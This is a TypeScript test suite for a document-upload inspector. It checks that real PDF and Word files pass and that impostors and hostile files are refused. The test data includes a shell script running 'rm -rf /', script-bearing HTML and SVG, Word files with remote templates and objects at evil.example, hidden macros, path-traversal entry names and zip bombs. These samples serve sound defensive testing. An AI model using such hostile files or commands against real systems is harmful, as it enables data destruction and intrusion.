import type { FileType } from '@elocute/contract/modules'
import { randomBytes } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { compoundFile } from '../../testing/compound-file.ts'
import {
  contentTypes,
  doc,
  docx,
  docxParts,
  pdf,
  relationships,
  wordStream,
} from '../../testing/documents.ts'
import { zipFile, type ZipPart } from '../../testing/zip-file.ts'
import { inspect } from './testing/inspected.ts'
import type { Verdict } from './document.ts'

const text = (length: number) =>
  'Thirty-three thieves thought that they thrilled the throne. '.repeat(length / 60)
const utf16 = (content: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(content, 'utf16le')])
const rels = (...inside: Parameters<typeof relationships>) => ({
  name: 'word/_rels/settings.xml.rels',
  content: relationships(...inside),
})
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const template = (target: string, mode = 'External') => rels({ type: 'attachedTemplate', target, mode })

describe('taken are', () => {
  const documents: [string, FileType, string | Buffer][] = [
    ['a small PDF', 'pdf', pdf()],
    ['a large PDF', 'pdf', pdf(3_000_000)],
    ['a PDF with some spaces after its end', 'pdf', Buffer.concat([pdf(), Buffer.from('\r\n \r\n')])],
    [
      'a PDF with a script, which its viewer will not run',
      'pdf',
      Buffer.concat([Buffer.from('%PDF-1.7\n/JavaScript (app.alert(1))\n'), pdf()]),
    ],
    ['a document of Word', 'docx', docx()],
    [
      'a document of Word whose parts are not packed',
      'docx',
      zipFile(docxParts().map((part) => ({ ...part, stored: true }))),
    ],
    [
      'a document of Word on the web, whose text has another name',
      'docx',
      zipFile(
        docxParts().map(({ name, content }) => ({
          name: name.replace('document', 'document2'),
          content: String(content).replaceAll('word/document', 'word/document2'),
        })),
      ),
    ],
    [
      'a document of Word with links',
      'docx',
      docx(rels({ type: 'hyperlink', target: 'https://example.com/', mode: 'External' })),
    ],
    [
      'a document of Word with its template on the own disk',
      'docx',
      docx(template('file:///C:\\Users\\Ada\\Templates\\Letter.dotx')),
    ],
    [
      'a document of Word with a template inside',
      'docx',
      docx(rels({ type: 'attachedTemplate', target: 'template.dotx' })),
    ],
    [
      'a document of Word with a table of numbers in it',
      'docx',
      docx({
        name: 'word/embeddings/Table1.xlsx',
        content: zipFile([{ name: 'a', content: 'b' }]),
        stored: true,
      }),
    ],
    [
      'a document of Word whose parts are UTF-16',
      'docx',
      docx({ name: '[Content_Types].xml', content: utf16(contentTypes().replace('UTF-8', 'UTF-16')) }),
    ],
    [
      'a document of Word with a remark at its end',
      'docx',
      zipFile(docxParts(), { comment: 'made by hand' }),
    ],
    [
      'a document of Word with 1,990 pictures',
      'docx',
      docx(
        ...Array.from({ length: 1_990 }, (_, n) => ({
          name: `word/media/image${n}.png`,
          content: 'p',
          stored: true,
        })),
      ),
    ],
    [
      'a document of Word with a long text',
      'docx',
      docx({
        name: 'word/document.xml',
        content: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${text(12_000)}${randomBytes(90_000).toString('hex')}</w:document>`,
      }),
    ],
    ['a document of Word 97', 'doc', doc()],
    [
      'a document of Word 97 with a drawing in it',
      'doc',
      doc({
        name: 'ObjectPool',
        children: [{ name: '_123', children: [{ name: 'CONTENTS', content: Buffer.alloc(9) }] }],
      }),
    ],
    [
      'a document of Word 97 with a long text',
      'doc',
      doc({ name: 'Data', content: Buffer.alloc(3_000_000, 7) }),
    ],
    [
      'a document of Word 95',
      'doc',
      compoundFile([
        {
          name: 'WordDocument',
          content: (() => {
            const bytes = wordStream()
            bytes.writeUInt16LE(0xa5dc, 0)
            return bytes
          })(),
        },
      ]),
    ],
    [
      'a very short document of Word 97',
      'doc',
      compoundFile([{ name: 'WordDocument', content: Buffer.alloc(700, 3) }]),
    ],
  ]
  test.for(documents)('%s', async ([, type, content]) => {
    expect(await inspect(type, content)).toBe('document')
  })
})

const html = '<!doctype html><script>alert(document.domain)</script>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const exe = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), randomBytes(500)])
const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomBytes(500)])
const plainZip = zipFile([{ name: 'readme.txt', content: 'hello' }])
const xlsx = zipFile([
  {
    name: '[Content_Types].xml',
    content: contentTypes('', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
  },
  { name: 'xl/workbook.xml', content: '<workbook/>' },
])
const epub = zipFile([{ name: 'mimetype', content: 'application/epub+zip', stored: true }])
const jar = zipFile([
  { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' },
  { name: 'A.class', content: 'cafe' },
])
const xls = compoundFile([{ name: 'Workbook', content: Buffer.alloc(5000) }])
const impostors: [string, string | Buffer][] = [
  ['nothing', ''],
  ['one byte', '%'],
  ['a page', html],
  ['a drawing with a script', svg],
  ['a program', exe],
  ['a picture', png],
  ['an archive', plainZip],
  ['a spreadsheet', xlsx],
  ['a book', epub],
  ['a Java program', jar],
  ['an old spreadsheet', xls],
  ['rich text', '{\\rtf1\\ansi hello}'],
  ['a shell script', '#!/bin/sh\nrm -rf /\n'],
  ['five megabytes of nothing', Buffer.alloc(5 * 1024 * 1024)],
  ['noise', randomBytes(100_000)],
]

describe.for(['pdf', 'doc', 'docx'] as const)('refused under the extension .%s is', (type) => {
  test.for(impostors)('%s', async ([, content]) => {
    expect(await inspect(type, content)).not.toBe('document')
  })

  const others = { pdf: pdf(), doc: doc(), docx: docx() }
  test.for(Object.entries(others).filter(([name]) => name !== type))('a real %s', async ([, content]) => {
    expect(await inspect(type, content)).not.toBe('document')
  })
})

describe('refused as a PDF is', () => {
  test.for<[string, string | Buffer]>([
    ['one that begins after a page', Buffer.concat([Buffer.from(html), pdf()])],
    ['one that begins after a picture', Buffer.concat([Buffer.from('GIF89a'), pdf()])],
    ['one that begins after an empty line', Buffer.concat([Buffer.from('\n'), pdf()])],
    ['one in small letters', pdf().toString().replace('%PDF', '%pdf')],
    ['one that breaks off', pdf(5_000).subarray(0, 4_000)],
    ['one with its end far from the end', Buffer.concat([pdf(), Buffer.alloc(2_100, 32)])],
    ['one that is an archive too', Buffer.concat([pdf(), plainZip])],
    ['the first line alone', '%PDF-1.7'],
  ])('%s', async ([, content]) => {
    expect(await inspect('pdf', content)).not.toBe('document')
  })
})

const parts = docxParts()
const without = (name: string) => zipFile(parts.filter((part) => part.name !== name))
const bomb = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024)
const contentTypesPart = (content: string | Buffer): ZipPart => ({ name: '[Content_Types].xml', content })

describe('refused as a document of Word is', () => {
  const bad: [string, Buffer][] = [
    ['one without its list of types', without('[Content_Types].xml')],
    ['one without a text', without('word/document.xml')],
    ['one that says it is another kind', docx(contentTypesPart(contentTypes('', 'application/xml')))],
    [
      'a template',
      docx(
        contentTypesPart(
          contentTypes(
            '',
            'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
          ),
        ),
      ),
    ],
    ['one with macros', docx({ name: 'word/vbaProject.bin', content: 'x' })],
    ['one with macros in capitals', docx({ name: 'word/VBAPROJECT.BIN', content: 'x' })],
    ['one with macros in another folder', docx({ name: 'custom/vbaProject.bin', content: 'x' })],
    ['one with the data of macros', docx({ name: 'word/vbaData.xml', content: '<a/>' })],
    ['one that says it has macros', docx(contentTypesPart(contentTypes('', macroMain)))],
    [
      'one that says so of another part',
      docx(contentTypesPart(contentTypes(`<Override PartName="/word/two.xml" ContentType="${macroMain}"/>`))),
    ],
    [
      'one that says so for an extension',
      docx(
        contentTypesPart(
          contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        ),
      ),
    ],
    [
      'one that hides it behind a reference',
      docx(
        contentTypesPart(
          contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
        ),
      ),
    ],
    [
      'one that hides it behind an entity',
      docx(contentTypesPart(contentTypes().replace('<Types', '<!DOCTYPE a [<!ENTITY m "vba">]><Types'))),
    ],
    [
      'one that hides it in UTF-16',
      docx(
        contentTypesPart(
          utf16(
            contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
          ),
        ),
      ),
    ],
    [
      'one in an encoding that nobody reads',
      docx(contentTypesPart(contentTypes().replace('UTF-8', 'UTF-7'))),
    ],
    ['one with controls that run', docx({ name: 'word/activeX/activeX1.xml', content: '<a/>' })],
    ['one with a template from the web', docx(template('https://evil.example/t.dotm'))],
    ['one with a template from a server of the house', docx(template('file://server/share/t.dotm'))],
    [
      'one with a template from such a server, written otherwise',
      docx(template('\\\\server\\share\\t.dotm')),
    ],
    ['one with a template from a server behind a drive', docx(template('file:///C:\\\\server\\t.dotm'))],
    [
      'one with such a template, its mode in capitals',
      docx(template('https://evil.example/t.dotm', 'EXTERNAL')),
    ],
    [
      'one with such a template behind references',
      docx(template('https&#58;//evil.example/t.dotm', 'Ext&#x65;rnal')),
    ],
    [
      'one with an object from the web',
      docx(rels({ type: 'oleObject', target: 'https://evil.example/a', mode: 'External' })),
    ],
    [
      'one with a frame from the web',
      docx(rels({ type: 'frame', target: 'https://evil.example/a', mode: 'External' })),
    ],
    [
      'one with a part from the web',
      docx(rels({ type: 'subDocument', target: 'https://evil.example/a', mode: 'External' })),
    ],
    ['one with relations that are no XML', docx({ name: 'word/_rels/settings.xml.rels', content: 'hello' })],
    ['a bomb of 190 MB in 190 kB', docx({ name: 'word/media/a.bin', content: bomb(190) })],
    [
      'a bomb in many parts, each as small as a dense one may be',
      docx(...Array.from({ length: 201 }, (_, n) => ({ name: `word/media/${n}`, content: bomb(1) }))),
    ],
    [
      'one with 2,001 parts',
      zipFile([
        ...parts,
        ...Array.from({ length: 1_998 }, (_, n) => ({ name: `a/${n}`, content: '', stored: true })),
      ]),
    ],
    ['one that says it has 65,535 parts', zipFile(parts, { entryCount: 65_535 })],
    ['one that says it has more parts than there are', zipFile(parts, { entryCount: 9 })],
    ['one with two texts', zipFile([...parts, ...parts.slice(2)])],
    ['one with two texts, one in capitals', docx({ name: 'WORD/document.xml', content: '<a/>' })],
    ['one with a way out', docx({ name: '../../etc/cron.d/a', content: 'x' })],
    ['one with a way from the root', docx({ name: '/etc/passwd', content: 'x' })],
    ['one with a way out by backslashes', docx({ name: '..\\..\\a', content: 'x' })],
    ['one with a drive', docx({ name: 'C:/a', content: 'x' })],
    ['one that is encrypted', docx({ name: 'word/a.xml', content: 'x', flags: 0x801 })],
    ['one that is packed in a way nobody reads', docx({ name: 'word/a.xml', content: 'x', method: 99 })],
    [
      'one that lies about what is not packed',
      docx({ name: 'word/a.xml', content: 'xxxx', stored: true, says: { unpacked: 9 } }),
    ],
    ['one with parts on top of each other', docx({ name: 'word/a.xml', content: 'x', says: { offset: 0 } })],
    [
      'one with a part beyond the end',
      docx({ name: 'word/a.xml', content: 'x', says: { offset: 10_000_000 } }),
    ],
    [
      'one with a part longer than the file',
      docx({ name: 'word/a.xml', content: 'x', says: { packed: 10_000_000 } }),
    ],
    [
      'one whose part has another name inside',
      docx({ name: 'word/a.xml', content: 'x', ownName: 'word/b.xml' }),
    ],
    [
      'one whose list of types is damaged',
      docx({ ...contentTypesPart(contentTypes()), says: { crc: 7, unpacked: 12 } }),
    ],
    ['one whose list of types is endless', docx(contentTypesPart(`${contentTypes()}${text(1_200_000)}`))],
    ['one that begins after a page', zipFile(parts, { before: Buffer.from(html) })],
    ['one whose directory is elsewhere', zipFile(parts, { directoryOffset: 4 })],
    ['one that breaks off', docx().subarray(0, 600)],
    ['one with something after its end', Buffer.concat([docx(), Buffer.from(html)])],
    ['the end of an archive alone', Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])],
  ]
  test.for(bad)('%s', async ([, content]) => {
    expect(await inspect('docx', content)).not.toBe('document')
  })
})

const verdicts: Verdict[] = ['document', 'other', 'active']

const changed = (change: (bytes: Buffer) => void, from = doc()): Buffer => {
  const bytes = Buffer.from(from)
  change(bytes)
  return bytes
}

describe('refused as a document of Word 97 is', () => {
  const bad: [string, Buffer][] = [
    [
      'one with macros',
      doc({
        name: 'Macros',
        children: [{ name: 'VBA', children: [{ name: '_VBA_PROJECT', content: Buffer.alloc(9) }] }],
      }),
    ],
    ['one with macros in capitals', doc({ name: 'MACROS', children: [] })],
    [
      'one with macros of a spreadsheet in it',
      doc({ name: 'ObjectPool', children: [{ name: '_VBA_PROJECT_CUR', children: [] }] }),
    ],
    ['one with a project alone', doc({ name: '_VBA_PROJECT', content: Buffer.alloc(9) })],
    ['one whose text is a folder', compoundFile([{ name: 'WordDocument', children: [] }])],
    [
      'one whose text lies in another object',
      compoundFile([
        { name: 'Workbook', content: Buffer.alloc(9) },
        { name: 'MBD01', children: [{ name: 'WordDocument', content: wordStream() }] },
      ]),
    ],
    [
      'one with a text that is not of Word',
      compoundFile([{ name: 'WordDocument', content: Buffer.alloc(4096) }]),
    ],
    ['one with an empty text', compoundFile([{ name: 'WordDocument', content: Buffer.alloc(0) }])],
    ['one that is encrypted', compoundFile([{ name: 'EncryptedPackage', content: Buffer.alloc(5000) }])],
    ['the first bytes alone', doc().subarray(0, 8)],
    ['the header alone', doc().subarray(0, 512)],
    ['one that breaks off in its directory', doc().subarray(0, 1100)],
    ['one of an unknown version', changed((bytes) => bytes.writeUInt16LE(9, 26))],
    ['one with sectors of an unknown size', changed((bytes) => bytes.writeUInt16LE(31, 30))],
    ['one in the other order of bytes', changed((bytes) => bytes.writeUInt16LE(0xfeff, 28))],
    ['one whose directory is nowhere', changed((bytes) => bytes.writeUInt32LE(0xfffff0, 48))],
    ['one whose directory has no end', changed((bytes) => bytes.writeUInt32LE(1, 512 + 4))],
    ['one whose directory is its table', changed((bytes) => bytes.writeUInt32LE(0, 48))],
    ['one whose table is nowhere', changed((bytes) => bytes.writeUInt32LE(0xfffff0, 76))],
    [
      'one whose table goes on for ever',
      changed((bytes) => {
        bytes.writeUInt32LE(1, 68)
        bytes.writeUInt32LE(0xffffffff, 72)
      }),
    ],
    ['one whose tree bites its tail', changed((bytes) => bytes.writeUInt32LE(0, 512 + 512 + 76))],
    ['a page behind its first bytes', Buffer.concat([doc().subarray(0, 8), Buffer.from(html.repeat(30))])],
  ]
  test.for(bad)('%s', async ([, content]) => {
    expect(await inspect('doc', content)).not.toBe('document')
  })

  test('none that is damaged at random makes the reader stumble', async () => {
    const whole = doc({ name: 'Macros', children: [] })
    for (let seed = 0; seed < 300; seed++) {
      const bytes = Buffer.from(whole)
      for (let n = 0; n < 4; n++)
        bytes.writeUInt32LE((seed * 2_654_435_761 + n * 40_503) >>> 0, ((seed * 53 + n * 977) * 4) % 1_500)
      expect(verdicts, String(seed)).toContain(await inspect('doc', bytes))
    }
  })
})

test('no document that is damaged at random makes the reader of archives stumble', async () => {
  const whole = docx(template('https://evil.example/t.dotm'))
  for (let seed = 0; seed < 300; seed++) {
    const bytes = Buffer.from(whole)
    for (let n = 0; n < 3; n++)
      bytes[(seed * 7_919 + n * 104_729) % bytes.length] = (seed * 31 + n * 17) % 256
    expect(verdicts, String(seed)).toContain(await inspect('docx', bytes))
  }
})
